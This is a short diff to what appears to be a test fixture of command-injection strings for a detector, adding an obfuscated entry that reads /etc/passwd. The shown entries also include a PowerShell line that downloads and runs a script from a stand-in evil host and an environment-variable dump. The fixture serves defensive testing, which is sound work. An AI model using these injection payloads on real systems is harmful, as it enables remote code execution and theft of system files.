@@ -40,6 +40,7 @@ ATTACKS = {
     "powershell_subexpression": "$(Get-ChildItem env:)",
     "powershell_iex_iwr": "; iex (iwr http://evil.example/p.ps1)",
     "echo_redirected_to_file": ";echo${IFS}pwned>/tmp/x",
+    "unset_variable_glued_to_words": "a;cat$u /etc$u/passwd",
 }
 
 BENIGN = {
